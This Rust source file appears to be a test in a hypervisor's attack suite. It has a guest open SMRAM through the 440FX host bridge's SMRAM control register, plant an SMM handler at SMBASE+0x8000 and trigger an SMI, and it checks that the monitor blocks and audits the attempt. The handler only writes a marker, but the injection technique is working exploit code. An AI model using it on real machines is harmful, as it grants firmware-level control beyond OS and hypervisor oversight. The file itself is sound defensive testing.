//! `scenario=smm`: the attack `smm-handler-from-the-guest`. System
//! management mode runs the firmware's handler from SMRAM on every SMI,
//! with all of physical memory in reach and outside VMX's control (SDM
//! Vol. 3C §32.14: an SMI in VMX non-root operation enters SMM, and RSM
//! returns to the guest). A guest that can write SMRAM runs its own code
//! there: it opens SMRAM through the host bridge's SMRAM control (440FX
//! register 0x72: D_OPEN, Intel 82441FX data sheet §3.2.23), copies a
//! handler to SMBASE + 0x8000, closes SMRAM, and raises an SMI through
//! the ACPI SMI command port with the FADT's ACPI_ENABLE value (which
//! okernel performs: Linux sends it at boot). The handler writes a mark
//! into ordinary RAM and resumes (RSM).
//!
//! The handler goes to both places SMBASE can be: 0xA8000 (the firmware
//! moved SMBASE to 0xA0000, as SeaBIOS and Bochs' BIOS do) and 0x38000
//! (the reset default 0x30000, which is ordinary RAM).
//!
//! Under okernel the loader set D_LCK (SMRAM control locked until reset)
//! and the monitor refuses the guest's writes to that dword: SMRAM stays
//! closed, the copy at 0xA8000 lands in VGA memory, the SMI runs the
//! firmware's handler, and no mark appears — blocked, with the refused
//! write audited. `mode=direct` (no monitor, no D_LCK) is the negative
//! control: the mark appears.

use crate::report::Checks;
use crate::sleep::{config_read, config_write, rsdp, table, u32_at};
use okernel_abi::boot::{EntryMode, GuestMemoryKind, MemoryRegion};

/// Where the handler writes its mark (usable RAM below 1 MiB).
const MARK: u64 = 0x7800;
/// What the handler at each entry writes (relocated SMBASE, reset one).
const MAGIC: [u32; 2] = [0x534d_4d41, 0x534d_4d33];
/// The 440FX host bridge (0:0.0) and its SMRAM control byte.
const I440FX: u32 = 0x1237_8086;
const SMRAM_DWORD: u32 = 0x8000_0070;
const SMRAM_SHIFT: u32 = 16;
/// SMRAM control: D_OPEN (SMRAM visible outside SMM), G_SMRAME.
const D_OPEN: u32 = 1 << 6;
const G_SMRAME: u32 = 1 << 3;
/// The two handler entries: SMBASE 0xA0000 (relocated), 0x30000 (reset).
const ENTRIES: [u64; 2] = [0xa_8000, 0x3_8000];

/// 16-bit SMM code (DS base 0, 4 GiB limit at SMM entry, SDM Vol. 3C
/// Table 32-4): `mov dword [MARK], magic` (66 C7 06 disp16 imm32), then
/// `rsm` (0F AA).
const fn handler(magic: u32) -> [u8; 11] {
    let m = magic.to_le_bytes();
    let at = (MARK as u16).to_le_bytes();
    [
        0x66, 0xc7, 0x06, at[0], at[1], m[0], m[1], m[2], m[3], 0x0f, 0xaa,
    ]
}

fn usable(map: &[MemoryRegion], addr: u64) -> bool {
    map.iter().any(|r| {
        r.kind == GuestMemoryKind::Usable as u32
            && r.base <= addr
            && addr + 0x1000 <= r.base + r.length
    })
}

fn read_mark() -> u32 {
    // SAFETY: MARK is usable RAM (checked by `run`), identity-mapped.
    unsafe { core::ptr::read_volatile(MARK as *const u32) }
}

/// Runs the attack and reports it.
pub fn run(checks: &mut Checks, entry: EntryMode, map: &[MemoryRegion]) {
    let fadt = rsdp()
        .and_then(|r| table(r, b"FACP"))
        .filter(|f| f.len() >= 56);
    let bridge = config_read(0x8000_0000);
    let (Some(fadt), true, true) = (fadt, bridge == I440FX, usable(map, MARK)) else {
        return checks.check(
            "attack-smm-handler-from-the-guest",
            1,
            false,
            format_args!(
                "needs a FADT, a 440FX host bridge (0:0.0 reads {bridge:#x}) and usable RAM at {MARK:#x}"
            ),
        );
    };
    let smi_cmd = u32_at(fadt, 48) as u16;
    let acpi_enable = fadt[52];
    let monitor = entry == EntryMode::NonRoot;
    let before = monitor
        .then(crate::attacks::audit::count)
        .and_then(Result::ok);
    // SAFETY: MARK is usable RAM; cleared before the SMI.
    unsafe { core::ptr::write_volatile(MARK as *mut u32, 0) };
    let saved = config_read(SMRAM_DWORD);
    config_write(SMRAM_DWORD, saved | (D_OPEN | G_SMRAME) << SMRAM_SHIFT);
    let opened = config_read(SMRAM_DWORD) >> SMRAM_SHIFT & D_OPEN != 0;
    for (at, magic) in ENTRIES.into_iter().zip(MAGIC) {
        if at < 0xa_0000 && !usable(map, at) {
            continue;
        }
        let code = handler(magic);
        // SAFETY: 0xA8000 is SMRAM while D_OPEN holds (else VGA memory,
        // an MMIO hole the guest may write); 0x38000 is usable RAM
        // (checked). Writing the handler there is the attack.
        unsafe { core::ptr::copy_nonoverlapping(code.as_ptr(), at as *mut u8, code.len()) };
    }
    config_write(SMRAM_DWORD, saved);
    // SAFETY: the SMI command port with the FADT's ACPI_ENABLE value:
    // the firmware's SMI (what Linux does at boot), or the guest's.
    unsafe { x86_64::instructions::port::Port::<u8>::new(smi_cmd).write(acpi_enable) };
    let mark = read_mark();
    let ran = MAGIC.contains(&mark);
    let after = monitor
        .then(crate::attacks::audit::count)
        .and_then(Result::ok);
    let new = before.zip(after).map(|(b, a)| a.saturating_sub(b));
    checks.attack(
        "smm-handler-from-the-guest",
        1,
        if monitor { !ran && !opened && new >= Some(1) } else { ran },
        format_args!(
            "SMRAM control {:#x}: D_OPEN {}; handler at {:x?}; SMI via {smi_cmd:#x} <- {acpi_enable:#x}: the guest's handler {}",
            saved >> SMRAM_SHIFT & 0xff,
            if opened { "set" } else { "refused" },
            ENTRIES,
            match mark {
                m if m == MAGIC[0] => "ran in SMM (SMBASE 0xA0000)",
                m if m == MAGIC[1] => "ran in SMM (SMBASE 0x30000, ordinary RAM)",
                _ => "did not run",
            }
        ),
        if monitor { "protected" } else { "no-monitor" },
        if monitor { "blocked" } else { "succeeded" },
        !ran,
        format_args!("{} new audit records", new.map_or(-1, |n| n as i64)),
    );
}
